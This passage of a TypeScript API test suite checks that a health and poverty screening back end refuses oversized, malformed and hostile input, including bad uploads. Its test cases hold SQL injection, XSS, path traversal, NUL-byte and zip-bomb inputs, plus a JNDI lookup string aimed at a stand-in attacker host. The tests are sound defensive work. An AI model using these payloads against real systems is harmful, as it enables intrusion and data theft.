  ['/api/recurring-tasks', recurring({ dueAfterDays: 367 }), 'dueAfterDays', ['recurring'], 'admin'],
  [
    '/api/tasks/bulk',
    { action: 'cancel', taskIds: Array.from({ length: 1001 }, () => '00000000-0000-4000-8000-000000000000'), reason: 'x' },
    'taskIds',
    ['tasks'],
    'admin',
  ],
  ['/api/tasks/bulk', { action: 'cancel', taskIds: ['{task}'], reason: 'R'.repeat(2001) }, 'reason', ['tasks', 'task_events'], 'admin'],
  ['/api/tasks/{task}/evidence/notes', { note: 'N'.repeat(10_001) }, 'note', ['evidence'], 'staff'],
  ['/api/tasks/{task}/extension-requests', { newDueAt: day(20), reason: 'R'.repeat(2001) }, 'reason', ['extension_requests'], 'staff'],
  ['/api/campaigns/{campaign}/cancel', { reason: 'R'.repeat(1001) }, 'reason', ['campaigns', 'tasks'], 'admin'],
  ['/api/policies', { name: `bad-input-${'P'.repeat(91)}`, policy: policyBody }, 'name', ['policies'], 'admin'],
] as [string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'oversized',
    title: `POST ${path}: ${field} ${JSON.stringify(body[field] ?? '').length > 12 ? 'too long or too many' : `= ${JSON.stringify(body[field])}`}`,
    method: 'post',
    path,
    as,
    json: body,
    status: 400,
    names: field,
    tables,
  });
for (const [method, path, body, field, tables, as] of [
  ['put', '/api/calendars/2097', { year: 2097, holidays: [], source: '源'.repeat(501) }, 'source', ['calendars'], 'admin'],
  [
    'put',
    '/api/calendars/2097/counties/{county}',
    { holidays: Array.from({ length: 367 }, () => '2097-01-01') },
    'holidays',
    ['calendars'],
    'admin',
  ],
  ['put', '/api/notification-templates/task_assigned', { title: 'T'.repeat(101), body: 'x' }, 'title', ['templates'], 'admin'],
  ['put', '/api/notification-templates/task_assigned', { title: 'x', body: 'B'.repeat(4001) }, 'body', ['templates'], 'admin'],
  ['put', '/api/tasks/{task}/items/{unknown}', { outcome: 'none', note: 'N'.repeat(501) }, 'note', ['recorded_items'], 'staff'],
  [
    'put',
    '/api/notifications/settings',
    { channels: [], webhookSecret: 'S'.repeat(201) },
    'webhookSecret',
    ['notification_settings'],
    'staff',
  ],
  ['patch', '/api/units/{village}', { name: '村'.repeat(101) }, 'name', ['units'], 'admin'],
] as [BadInputCase['method'], string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'oversized',
    title: `${method.toUpperCase()} ${path}: ${field} too long or too many`,
    method,
    path,
    as,
    json: body,
    status: 400,
    names: field,
    tables,
  });
for (const route of JSON_ROUTES.slice(0, 6))
  add({
    category: 'oversized',
    title: `${route.method.toUpperCase()} ${route.path}: a JSON body over 100 KB`,
    ...route,
    raw: { type: 'application/json', body: JSON.stringify({ title: 'x'.repeat(110 * 1024) }) },
    status: 413,
    names: /100 KB/,
  });
add({
  category: 'oversized',
  title: 'PUT /api/calendars/2097: a CSV body over 20 MB',
  method: 'put',
  path: '/api/calendars/2097',
  as: 'admin',
  raw: { type: 'text/csv', body: Buffer.alloc(21 * 1024 * 1024, 0x41) },
  status: 413,
  names: /20 MB/,
  tables: ['calendars'],
});

// Path parameters that are not what they must be.
const NOT_UUIDS: [string, string][] = [
  ['a word', 'not-a-uuid'],
  ['a number', '12345'],
  ['a traversal', encodeURIComponent('../../etc/passwd')],
  ['an encoded traversal', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
  ['SQL', encodeURIComponent("' OR '1'='1")],
  ['a script', encodeURIComponent('<script>alert(1)</script>')],
  ['a UUID in braces', encodeURIComponent('{0b7e3f3a-1c2d-4e5f-8a9b-0c1d2e3f4a5b}')],
  ['a UUID with a NUL after it', '0b7e3f3a-1c2d-4e5f-8a9b-0c1d2e3f4a5b%00'],
];
const UUID_ROUTES: { method: BadInputCase['method']; path: (id: string) => string; param: string; as?: Sender; tables: Table[] }[] = [
  { method: 'get', path: (id) => `/api/units/${id}`, param: 'id', tables: [] },
  { method: 'patch', path: (id) => `/api/units/${id}`, param: 'id', tables: ['units'] },
  { method: 'get', path: (id) => `/api/campaigns/${id}/ledger.xlsx`, param: 'id', tables: ['audit'] },
  { method: 'post', path: (id) => `/api/tasks/${id}/items/results`, param: 'taskId', as: 'staff', tables: ['recorded_items'] },
  { method: 'get', path: (id) => `/api/population/persons/${id}/id-number`, param: 'id', tables: ['audit'] },
  { method: 'get', path: (id) => `/api/tasks/{task}/evidence/${id}/file`, param: 'evidenceId', as: 'staff', tables: ['audit'] },
];
for (const route of UUID_ROUTES)
  for (const [what, id] of NOT_UUIDS)
    add({
      category: 'path parameter',
      title: `${route.method.toUpperCase()} ${route.path(':' + route.param)} with ${what}`,
      method: route.method,
      path: route.path(id),
      as: route.as ?? 'admin',
      json: route.method === 'patch' ? { name: 'x' } : undefined,
      status: 400,
      names: `${route.param} must be a UUID`,
      tables: route.tables,
    });
for (const [what, path, names, tables] of [
  ['POST /api/campaigns/:id/comparisons', '/api/campaigns/not-a-uuid/comparisons', 'id must be a UUID', ['comparison_runs']],
  [
    'POST /api/campaigns/:id/launch',
    `/api/campaigns/${encodeURIComponent('1; DROP TABLE campaigns')}/launch`,
    'id must be a UUID',
    ['campaigns'],
  ],
  ['POST /api/tasks/:id/approve', '/api/tasks/..%2f..%2fadmin/approve', 'id must be a UUID', ['tasks']],
  ['POST /api/users/:id/handover', '/api/users/me/handover', 'id must be a UUID', ['tasks', 'task_events']],
  ['POST /api/escalations/:id/acknowledge', '/api/escalations/0/acknowledge', 'id must be a UUID', []],
  ['POST /api/notifications/:id/read', '/api/notifications/all/read', 'id must be a UUID', ['notifications']],
  ['POST /api/policies/:id/default', '/api/policies/default/default', 'id must be a UUID', ['policies']],
] as [string, string, string, Table[]][])
  add({
    category: 'path parameter',
    title: `${what} with a bad id`,
    method: 'post',
    path,
    as: 'admin',
    // A body that would pass, so that only the id is wrong (Nest checks the parameters together).
    json: what.includes('handover') ? { toUserId: '{staffUser}', reason: '交接' } : undefined,
    status: 400,
    names,
    tables,
  });
for (const [what, year, names] of [
  ['letters', 'abcd', 'year must be a whole number'],
  ['a fraction', '2027.5', 'year must be a whole number'],
  ['an exponent', '2e3', 'year must be a whole number'],
  ['a year before 2000', '1999', 'year must lie between 2000 and 2100'],
  ['a year after 2100', '2101', 'year must lie between 2000 and 2100'],
  ['a traversal', '..%2f..%2fetc', 'year must be a whole number'],
  ['a huge number', '9'.repeat(30), 'year must be a whole number'],
  ['a sign', '+2027', 'year must be a whole number'],
  ['spaces', '%202027', 'year must be a whole number'],
] as [string, string, string | RegExp][])
  add({
    category: 'path parameter',
    title: `PUT /api/calendars/:year with ${what}`,
    method: 'put',
    path: `/api/calendars/${year}`,
    as: 'admin',
    json: { year: 2027, holidays: [] },
    status: 400,
    names,
    tables: ['calendars'],
  });
for (const [what, version, status, names] of [
  ['letters', 'latest2', 400, 'version must be a whole number'],
  ['SQL', encodeURIComponent('1 OR 1=1'), 400, 'version must be a whole number'],
  ['a negative number', '-1', 400, 'version must be a whole number'],
  ['zero', '0', 400, 'version must lie between 1 and 2147483647'],
  ['a number past PostgreSQL integer', '2147483648', 400, 'version must lie between 1 and 2147483647'],
  ['a huge number', '9'.repeat(20), 400, 'version must be a whole number'],
  ['an exponent', '1e3', 400, 'version must be a whole number'],
  ['a version that does not exist', '999999', 404, 'No disease catalogue version 999999'],
] as [string, string, number, string][])
  add({
    category: 'path parameter',
    title: `GET /api/disease-catalogue/:version with ${what}`,
    method: 'get',
    path: `/api/disease-catalogue/${version}`,
    as: 'admin',
    status,
    names,
    tables: [],
  });
for (const [what, kind] of [
  ['an unknown kind', 'no_such_kind'],
  ['a traversal', encodeURIComponent('../../etc/passwd')],
  ['a script', encodeURIComponent('<img src=x onerror=alert(1)>')],
] as [string, string][])
  add({
    category: 'path parameter',
    title: `PUT /api/notification-templates/:kind with ${what}`,
    method: 'put',
    path: `/api/notification-templates/${kind}`,
    as: 'admin',
    json: { title: '标题', body: '正文' },
    status: 404,
    names: 'No notification template of kind',
    tables: ['templates'],
  });
for (const [what, path, names] of [
  ['a campaign', '/api/campaigns/{unknown}', 'No campaign with id'],
  ['a unit', '/api/units/{unknown}', 'No unit with id'],
  ['a register import', '/api/population/imports/{unknown}', 'No register import'],
  ['an evidence file', '/api/tasks/{task}/evidence/{unknown}/file', 'No evidence'],
] as [string, string, string][])
  add({
    category: 'path parameter',
    title: `GET ${what} that does not exist`,
    method: 'get',
    path,
    as: what === 'an evidence file' ? 'staff' : 'admin',
    status: 404,
    names,
    tables: [],
  });

// Query parameters.
for (const [path, query, names, as] of [
  ['/api/units', 'page=0', 'page', 'admin'],
  ['/api/units', 'page=-1', 'page', 'admin'],
  ['/api/units', 'page=abc', 'page', 'admin'],
  ['/api/units', 'page=1.5', 'page', 'admin'],
  ['/api/units', 'pageSize=1000000', 'pageSize', 'admin'],
  ['/api/units', 'pageSize=1e309', 'pageSize', 'admin'],
  ['/api/units', 'pageSize=501', 'pageSize', 'admin'],
  ['/api/units', 'pageSize=0x10', 'pageSize', 'admin'],
  ['/api/units', 'pageSize=1e2', 'pageSize', 'admin'],
  ['/api/units', 'pageSize=%2010', 'pageSize', 'admin'],
  ['/api/units', 'page=99999999999999999999', 'page', 'admin'],
  ['/api/units', 'page=2000000', 'page', 'admin'],
  ['/api/users', 'page=9007199254740993', 'page', 'admin'],
  ['/api/units', 'page[]=1&page[]=2', 'page', 'admin'],
  ['/api/units', 'pageSize[$gt]=1', 'pageSize', 'admin'],
  ['/api/units', 'kind=castle', 'kind', 'admin'],
  ['/api/units', `kind=${encodeURIComponent("village' OR '1'='1")}`, 'kind', 'admin'],
  ['/api/units', 'parentId=../../etc/passwd', 'parentId', 'admin'],
  ['/api/units', 'includeInactive=yes', 'includeInactive', 'admin'],
  ['/api/units', `q=${'长'.repeat(101)}`, 'q', 'admin'],
  ['/api/units', 'q=a%00b', 'NUL character', 'admin'],
  ['/api/tasks/{task}/items', 'q=%00', 'NUL character', 'staff'],
  ['/api/units', 'parentId={county}&parentId={county}', 'parentId', 'admin'],
  ['/api/units/{county}/subtree', 'maxDepth=21', 'maxDepth', 'admin'],
  ['/api/units/{county}/subtree', 'maxDepth=-1', 'maxDepth', 'admin'],
  ['/api/units/ladder-check', 'rootId=%2e%2e%2f', 'rootId', 'admin'],
  ['/api/users', 'pageSize=99999999999999999999', 'pageSize', 'admin'],
  ['/api/tasks/mine', 'status=everything', 'status', 'admin'],
  ['/api/tasks/mine', 'overdue=maybe', 'overdue', 'admin'],
  ['/api/tasks/mine', `campaignId=${encodeURIComponent('1 UNION SELECT password_hash FROM users')}`, 'campaignId', 'admin'],
  ['/api/campaigns', 'status=<script>', 'status', 'admin'],
  ['/api/campaigns/{campaign}/ledger.xlsx', 'fullIds=yes', 'fullIds', 'admin'],
  ['/api/campaigns/{campaign}/ledger.xlsx', 'unitId=../../etc/passwd', 'unitId', 'admin'],
  ['/api/campaigns/{campaign}/progress', `unitId=${encodeURIComponent("' OR 1=1--")}`, 'unitId', 'admin'],
  ['/api/tasks/{task}/items', 'state=deleted', 'state', 'staff'],
  ['/api/tasks/{task}/items', `q=${'名'.repeat(51)}`, 'q', 'staff'],
  ['/api/tasks/{task}/verification-items', 'kind=all', 'kind', 'staff'],
  ['/api/population/persons', 'idNumber=12345', 'idNumber', 'manager'],
  ['/api/population/persons', `idNumber=${encodeURIComponent("' OR '1'='1")}`, 'idNumber', 'manager'],
  ['/api/population/persons', 'idNumber=51081219900101123Y', 'idNumber', 'manager'],
  ['/api/population/persons', 'povertyStatus=rich', 'povertyStatus', 'admin'],
  ['/api/population/households', 'villageId=%00', 'villageId', 'admin'],
  ['/api/oversight/overdue', 'sort=password', 'sort', 'admin'],
  ['/api/notifications', 'unreadOnly=perhaps', 'unreadOnly', 'staff'],
] as [string, string, string, Sender][])
  add({
    category: 'query parameter',
    title: `GET ${path}?${query.slice(0, 60)}`,
    method: 'get',
    path: `${path}?${query}`,
    as,
    status: 400,
    names,
    tables: ['audit'],
  });

// Dates that do not exist, or are not dates.
for (const [path, body, field, tables, as] of [
  ['/api/campaigns', campaign({ startsOn: '2027-02-30' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: '2027-02-29' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: '2027-13-01' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: '2027-00-10' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: '27-01-01' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: 'yesterday' }), 'startsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ endsOn: '2027-04-31' }), 'endsOn', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ startsOn: day(10), endsOn: day(5) }), 'endsOn', ['campaigns'], 'admin'],
  [
    '/api/campaigns',
    campaign({ steps: [{ dueAt: '2027-02-28T25:00:00+08:00', responsibleUnitKind: 'village_clinic' }] }),
    'dueAt',
    ['campaigns'],
    'admin',
  ],
  [
    '/api/campaigns',
    campaign({ steps: [{ dueAt: '2027-02-28T10:00:00+15:00', responsibleUnitKind: 'village_clinic' }] }),
    'dueAt',
    ['campaigns'],
    'admin',
  ],
  [
    '/api/campaigns',
    campaign({ steps: [{ dueAt: '2020-01-01', responsibleUnitKind: 'village_clinic' }] }),
    'dueAt',
    ['campaigns'],
    'admin',
  ],
  ['/api/tasks', task({ dueAt: '2027-02-30' }), 'dueAt', ['tasks'], 'admin'],
  ['/api/tasks', task({ dueAt: '2027-06-31T12:00:00Z' }), 'dueAt', ['tasks'], 'admin'],
  ['/api/tasks', task({ dueAt: '2027-06-30T12:60:00Z' }), 'dueAt', ['tasks'], 'admin'],
  ['/api/tasks', task({ dueAt: '2027-06-30 12:00' }), 'dueAt', ['tasks'], 'admin'],
  ['/api/tasks/{task}/extension-requests', { newDueAt: '2027-04-31', reason: '来不及' }, 'newDueAt', ['extension_requests'], 'staff'],
  [
    '/api/tasks/bulk',
    { action: 'extend', taskIds: ['{task}'], reason: '延期', newDueAt: '2027-02-29' },
    'newDueAt',
    ['tasks', 'task_events'],
    'admin',
  ],
] as [string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'impossible date',
    title: `POST ${path}: ${field} ${JSON.stringify(body[field] ?? (body.steps as { dueAt: string }[] | undefined)?.[0]?.dueAt ?? body.endsOn)}`,
    method: 'post',
    path,
    as,
    json: body,
    status: 400,
    names: field,
    tables,
  });
for (const [path, query, field] of [
  ['/api/tasks/mine', 'dueTo=2027-02-30', 'dueTo'],
  ['/api/tasks/mine', 'dueFrom=2027-13-01', 'dueFrom'],
  ['/api/units/{county}/tasks', 'dueFrom=2027-04-31T00:00:00Z', 'dueFrom'],
  ['/api/units/{county}/tasks', 'dueTo=0000-00-00', 'dueTo'],
] as [string, string, string][])
  add({
    category: 'impossible date',
    title: `GET ${path}?${query}`,
    method: 'get',
    path: `${path}?${query}`,
    as: 'admin',
    status: 400,
    names: field,
    tables: [],
  });
for (const [body, field] of [
  [{ holidays: ['2097-02-30'] }, '2097-02-30'],
  [{ holidays: ['not a date'] }, 'not a date'],
  [{ makeUpWorkdays: ['2097-13-01'] }, '2097-13-01'],
  [{ holidays: ['2096-12-31'] }, '2096-12-31'],
] as [Record<string, unknown>, string][])
  add({
    category: 'impossible date',
    title: `PUT /api/calendars/2097/counties/{county}: ${field}`,
    method: 'put',
    path: '/api/calendars/2097/counties/{county}',
    as: 'admin',
    json: body,
    status: 400,
    names: field,
    tables: ['calendars'],
  });
for (const [body, names] of [
  [{ year: 2097, holidays: ['2097-02-30'] }, '2097-02-30'],
  [{ year: 2097, holidays: ['2097-01-01'], makeUpWorkdays: ['2097-04-31'] }, '2097-04-31'],
  [{ year: 2098, holidays: [] }, '2098'],
] as [Record<string, unknown>, string][])
  add({
    category: 'impossible date',
    title: `PUT /api/calendars/2097: ${names}`,
    method: 'put',
    path: '/api/calendars/2097',
    as: 'admin',
    json: body,
    status: 400,
    names,
    tables: ['calendars'],
  });
add({
  category: 'impossible date',
  title: 'PATCH /api/formal-talks/:id: scheduledAt 2027-02-30',
  method: 'patch',
  path: '/api/formal-talks/{unknown}',
  as: 'admin',
  json: { scheduledAt: '2027-02-30' },
  status: 400,
  names: 'scheduledAt',
  tables: [],
});

// Injection strings where the field has a shape: refused for the shape, naming the field.
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '<script>alert(document.cookie)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
];
for (const text of INJECTIONS) {
  add({
    category: 'injection string',
    title: `POST /api/users: username ${text}`,
    method: 'post',
    path: '/api/users',
    as: 'admin',
    json: user({ username: text }),
    status: 400,
    names: 'username',
    tables: ['users'],
  });
  add({
    category: 'injection string',
    title: `POST /api/units: code ${text}`,
    method: 'post',
    path: '/api/units',
    as: 'admin',
    json: unit({ code: text }),
    status: 400,
    names: 'code',
    tables: ['units'],
  });
  add({
    category: 'injection string',
    title: `POST /api/tasks: unitId ${text}`,
    method: 'post',
    path: '/api/tasks',
    as: 'admin',
    json: task({ unitId: text }),
    status: 400,
    names: 'unitId',
    tables: ['tasks'],
  });
  add({
    category: 'injection string',
    title: `POST /api/campaigns: template ${text}`,
    method: 'post',
    path: '/api/campaigns',
    as: 'admin',
    json: campaign({ template: text }),
    status: 400,
    names: 'template',
    tables: ['campaigns'],
  });
}

// ---------------------------------------------------------------------------------------------
// Files
// ---------------------------------------------------------------------------------------------

type FileCase = [title: string, upload: Upload, status: number, names: string | RegExp];

/** What every table upload must refuse in the same words, whichever route it comes through. */
function commonFileCases(headers: string[], row: (c: FileContext) => string[]): FileCase[] {
  const text = (c: FileContext) => csvText([headers, row(c)]);
  return [
    ['an empty .csv', { name: 'list.csv', bytes: () => Buffer.alloc(0) }, 400, 'the file is empty'],
    ['a .csv of a BOM only', { name: 'list.csv', bytes: () => BOM }, 400, 'the file is empty'],
    ['a .csv of blank lines', { name: 'list.csv', bytes: () => Buffer.from('\r\n\r\n\r\n') }, 400, /lacks the column/],
    [
      'a .csv without the required columns',
      {
        name: 'list.csv',
        bytes: () =>
          csv([
            ['姓名', '备注'],
            ['张三', ''],
          ]),
      },
      400,
      headers[0],
    ],
    [
      'a .csv with English headers',
      {
        name: 'list.csv',
        bytes: () =>
          csv([
            ['id', 'result'],
            ['1', '2'],
          ]),
      },
      400,
      /lacks the column\(s\) .*身份证号/,
    ],
    ['a .csv in UTF-16 LE', { name: 'list.csv', bytes: (c) => utf16le(text(c)) }, 400, /UTF-16/],
    ['a .csv in UTF-16 BE', { name: 'list.csv', bytes: (c) => utf16be(text(c)) }, 400, /UTF-16/],
    ['a .csv in UTF-16 without a BOM', { name: 'list.csv', bytes: (c) => Buffer.from(text(c), 'utf16le') }, 400, /NUL bytes|UTF-16/],
    ['a PNG named .csv', { name: 'list.csv', bytes: () => PNG }, 400, /PNG image/],
    ['a PDF named .csv', { name: 'list.csv', bytes: () => PDF }, 400, /PDF/],
    ['a workbook named .csv', { name: 'list.csv', bytes: (c) => xlsx([headers, row(c)]) }, 400, /ZIP|XLSX|workbook/i],
    [
      'a broken UTF-8 byte in row 2',
      { name: 'list.csv', bytes: (c) => brokenAtRow([headers, row(c)], 2) },
      400,
      /row 2: a byte that is not valid UTF-8/,
    ],
    [
      'a broken UTF-8 byte in the header',
      { name: 'list.csv', bytes: (c) => brokenAtRow([headers, row(c)], 1) },
      400,
      /row 1: a byte that is not valid UTF-8/,
    ],
    [
      'a .csv ending in half a UTF-8 character',
      { name: 'list.csv', bytes: (c) => Buffer.concat([Buffer.from(text(c)), Buffer.from('说').subarray(0, 2)]) },
      400,
      /ends in the middle of a UTF-8 character/,
    ],
    ['a CSV named .xlsx', { name: 'list.xlsx', bytes: (c) => Buffer.from(text(c)) }, 400, /cannot be read as XLSX/],
    ['a PNG named .xlsx', { name: 'list.xlsx', bytes: () => PNG }, 400, /cannot be read as XLSX/],
    ['an .xlsx cut in half', { name: 'list.xlsx', bytes: (c) => truncatedXlsx([headers, row(c)]) }, 400, /the .xlsx file is cut off/],
    ['an empty zip named .xlsx', { name: 'list.xlsx', bytes: () => ZIP_OF_NOTHING }, 400, /no worksheet|cannot be read as XLSX/],
    ['an .xlsx whose first sheet is empty', { name: 'list.xlsx', bytes: () => xlsx([]) }, 400, 'the first worksheet is empty'],
    [
      'an .xlsx with a title row merged over the headers',
      { name: 'list.xlsx', bytes: (c) => titledWorkbook(headers, row(c)) },
      400,
      /lacks the column/,
    ],
    [
      'an .xlsx with two merged header rows',
      { name: 'list.xlsx', bytes: (c) => twoLevelHeader(headers[0], '信息', headers.slice(1), row(c)) },
      400,
      // Where the other columns are required, they are missing; where only the ID is, row 2 (the second header row) has none.
      headers[1] === '户编号' ? /"row":2,"column":"身份证号"/ : new RegExp(`lacks the column\\(s\\) ${headers[1]}`),
    ],
    [
      'an .xlsx with a formula without its value',
      { name: 'list.xlsx', bytes: (c) => xlsx([headers, [row(c)[0], { formula: 'A1&"x"' }, ...row(c).slice(2)]]) },
      400,
      'cell B2 (row 2): is a formula without a saved value',
    ],
    [
      'an .xlsx with an error cell',
      { name: 'list.xlsx', bytes: (c) => errorCellWorkbook(headers, [row(c)[0], { error: '#N/A' }, ...row(c).slice(2)]) },
      400,
      /cell B2 \(row 2\): holds the error #N\/A/,
    ],
    [
      'a zip bomb of shared strings',
      { name: 'list.xlsx', bytes: () => sharedStringsBomb(headers, 5000, 400) },
      413,
      /XLSX_MAX_SHARED_STRING/,
    ],
    ['a .txt', { name: 'list.txt', bytes: (c) => Buffer.from(text(c)) }, 400, 'file must be .csv or .xlsx'],
    ['a file without an extension', { name: 'list', bytes: (c) => Buffer.from(text(c)) }, 400, 'file must be .csv or .xlsx'],
    ['a .csv.exe', { name: 'list.csv.exe', bytes: () => PNG }, 400, 'file must be .csv or .xlsx'],
    ['a file name of 300 characters', { name: `${'名'.repeat(296)}.csv`, bytes: (c) => csv([headers, row(c)]) }, 400, /255/],
    ['the file in another field', { field: 'upload', name: 'list.csv', bytes: (c) => csv([headers, row(c)]) }, 400, /field.*"file"|upload/],
  ];
}

/** Rows of a results file that are each wrong in one way, with what the report must say. */
const RESULT_ROWS: [string, (c: FileContext) => string[][], RegExp][] = [
  ['a header only', () => [RESULT_HEADERS], /the file has no rows/],
  ['a header and empty rows', () => [RESULT_HEADERS, ['', '', '', ''], ['', '', '', '']], /the file has no rows/],
  [
    'an ID with a wrong check digit',
    (c) => [RESULT_HEADERS, [wrongCheck(c.taskIdNumbers[0]), '未患目录内疾病', '', '']],
    /"row":2.*身份证号校验位错误/,
  ],
  [
    'an ID with an impossible birth date',
    () => [RESULT_HEADERS, [idWithBirthDate('19990230'), '未患目录内疾病', '', '']],
    /"row":2.*出生日期/,
  ],
  ['an ID born in the future', () => [RESULT_HEADERS, [idWithBirthDate(futureBirth()), '未患目录内疾病', '', '']], /"row":2.*出生日期/],
  ['an ID born before 1900', () => [RESULT_HEADERS, [idWithBirthDate('18991231'), '未患目录内疾病', '', '']], /"row":2.*出生日期/],
  ['an ID of 17 characters', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0].slice(0, 17), '未患目录内疾病', '', '']], /"row":2.*18位/],
  ['an ID with letters', () => [RESULT_HEADERS, ['51081219900101ABCD', '未患目录内疾病', '', '']], /"row":2.*18位/],
  ['an empty ID', () => [RESULT_HEADERS, ['', '未患目录内疾病', '', '说明']], /"row":2.*身份证号不能为空/],
  ['a person not on the task', (c) => [RESULT_HEADERS, [c.otherIdNumber, '未患目录内疾病', '', '']], /"row":2.*不在本任务的识别名单中/],
  ['an unknown outcome', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '痊愈', '', '']], /"row":2.*识别结果应为/],
  ['an outcome as a formula', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '=1+1', '', '']], /"row":2.*识别结果应为/],
  ['患病 without a disease', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '患病', '', '']], /"row":2.*至少填写一种疾病/],
  [
    'a disease not in the catalogue',
    (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '患病', 'Z99', '']],
    /"row":2.*Z99.*不在本次行动的疾病目录中/,
  ],
  ['无法联系 without a reason', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '无法联系', '', '']], /"row":2.*须在说明中写明原因/],
  ['a note over 500 characters', (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '未患目录内疾病', '', '说'.repeat(501)]], /"row":2.*500/],
  [
    'the same person twice',
    (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '未患目录内疾病', '', ''], [c.taskIdNumbers[0], '未患目录内疾病', '', '']],
    /"row":3.*与第2行重复/,
  ],
  [
    'a good row, then a bad one',
    (c) => [RESULT_HEADERS, [c.taskIdNumbers[0], '未患目录内疾病', '', ''], [c.taskIdNumbers[1], '不知道', '', '']],
    /"row":3.*识别结果应为/,
  ],
];

for (const [title, upload, status, names] of commonFileCases(RESULT_HEADERS, (c) => [c.taskIdNumbers[0], '未患目录内疾病', '', '']))
  add({
    category: 'file: results upload',
    title: `results: ${title}`,
    method: 'post',
    path: RESULTS,
    as: 'staff',
    multipart: { file: upload },
    status,
    names,
    tables: ['recorded_items', 'tasks'],
  });
add({
  category: 'file: results upload',
  title: 'results: no file at all',
  method: 'post',
  path: RESULTS,
  as: 'staff',
  multipart: {},
  status: 400,
  names: 'file is required',
  tables: ['recorded_items'],
});
for (const [title, rows, names] of RESULT_ROWS) {
  add({
    category: 'file: results upload',
    title: `results .csv: ${title}`,
    method: 'post',
    path: RESULTS,
    as: 'staff',
    multipart: { file: { name: 'results.csv', bytes: (c) => csv(rows(c)) } },
    status: 400,
    names,
    tables: ['recorded_items', 'tasks'],
  });
}
for (const [title, rows, names] of RESULT_ROWS.filter((_, i) => i % 3 === 2))
  add({
    category: 'file: results upload',
    title: `results .xlsx: ${title}`,
    method: 'post',
    path: RESULTS,
    as: 'staff',
    multipart: { file: { name: 'results.xlsx', bytes: (c) => xlsx(rows(c)) } },
    status: 400,
    names,
    tables: ['recorded_items', 'tasks'],
  });

// The comparison list.
const LIST_ROWS: [string, (c: FileContext) => string[][], RegExp][] = [
  ['a header only', () => [LIST_HEADERS], /no rows|header/],
  [
    'an ID with a wrong check digit',
    (c) => [LIST_HEADERS, [wrongCheck(c.taskIdNumbers[0]), '', '因病', '']],
    /"row":2.*身份证号校验位错误/,
  ],
  ['an ID with an impossible birth date', () => [LIST_HEADERS, [idWithBirthDate('20230229'), '', '因病', '']], /"row":2.*出生日期/],
  ['an ID born in the future', () => [LIST_HEADERS, [idWithBirthDate(futureBirth()), '', '因病', '']], /"row":2.*出生日期/],
  ['an empty ID', () => [LIST_HEADERS, ['', 'H1', '因病', '']], /"row":2.*身份证号/],
  ['a cause over its length', (c) => [LIST_HEADERS, [c.taskIdNumbers[0], '', '因'.repeat(41), '']], /"row":2.*不能超过/],
  ['a household number over its length', (c) => [LIST_HEADERS, [c.taskIdNumbers[0], 'H'.repeat(41), '因病', '']], /"row":2.*不能超过/],
  [
    'the same person twice',
    (c) => [LIST_HEADERS, [c.taskIdNumbers[0], '', '因病', ''], [c.taskIdNumbers[0], '', '因病', '']],
    /"row":3.*与第2行重复/,
  ],
];
for (const [title, upload, status, names] of commonFileCases(LIST_HEADERS, (c) => [c.taskIdNumbers[0], '', '因病', '']).filter(
  (_, i) => i % 2 === 0,
))
  add({
    category: 'file: comparison upload',
    title: `comparison: ${title}`,
    method: 'post',
    path: COMPARISON,
    as: 'admin',
    multipart: { file: upload, fields: { dueAt: day(20) } },
    status,
    names,
    tables: ['comparison_runs', 'comparison_flags', 'tasks'],
  });
for (const [title, rows, names] of LIST_ROWS)
  add({
    category: 'file: comparison upload',
    title: `comparison .csv: ${title}`,
    method: 'post',
    path: COMPARISON,
    as: 'admin',
    multipart: { file: { name: 'list.csv', bytes: (c) => csv(rows(c)) }, fields: { dueAt: day(20) } },
    status: 400,
    names,
    tables: ['comparison_runs', 'comparison_flags', 'tasks'],
  });
for (const [title, fields, names] of [
  ['without dueAt', {}, 'dueAt'],
  ['with dueAt 2027-02-30', { dueAt: '2027-02-30' }, 'dueAt'],
  ['with dueAt in words', { dueAt: 'next friday' }, 'dueAt'],
  ['with areaUnitId not a UUID', { dueAt: day(20), areaUnitId: '../../etc' }, 'areaUnitId'],
  ['with an unknown form field', { dueAt: day(20), owner: 'me' }, 'property owner should not exist'],
] as [string, Record<string, string>, string][])
  add({
    category: 'file: comparison upload',
    title: `comparison ${title}`,
    method: 'post',
    path: COMPARISON,
    as: 'admin',
    multipart: { file: { name: 'list.csv', bytes: (c) => csv([LIST_HEADERS, [c.taskIdNumbers[0], '', '因病', '']]) }, fields },
    status: 400,
    names,
    tables: ['comparison_runs', 'comparison_flags', 'tasks'],
  });

// The register import: what is refused at upload, before anything is queued.
for (const [title, upload, status, names] of commonFileCases(REGISTER_HEADERS, (c) => registerRow(c, c.taskIdNumbers[0])).filter(
  // Formulas and error cells in the first data row are refused at upload too (below); the rest of a file,
  // and so a character cut at its end, is read by the import (REGISTER_WORKER_CASES).
  ([title]) => !/formula|error cell|300 characters|half a UTF-8/.test(title),
))
  add({
    category: 'file: register import',
    title: `register: ${title}`,
    method: 'post',
    path: REGISTER,
    as: 'admin',
    multipart: { file: upload },
    status,
    names,
    tables: ['register_imports', 'persons', 'households', 'audit'],
  });
for (const [title, rows, names] of [
  ['a header only', () => [REGISTER_HEADERS], /file has a header row but no data rows/],
  ['a header and blank lines', () => [REGISTER_HEADERS, [], []], /file has a header row but no data rows/],
  [
    'a header lacking 身份证号',
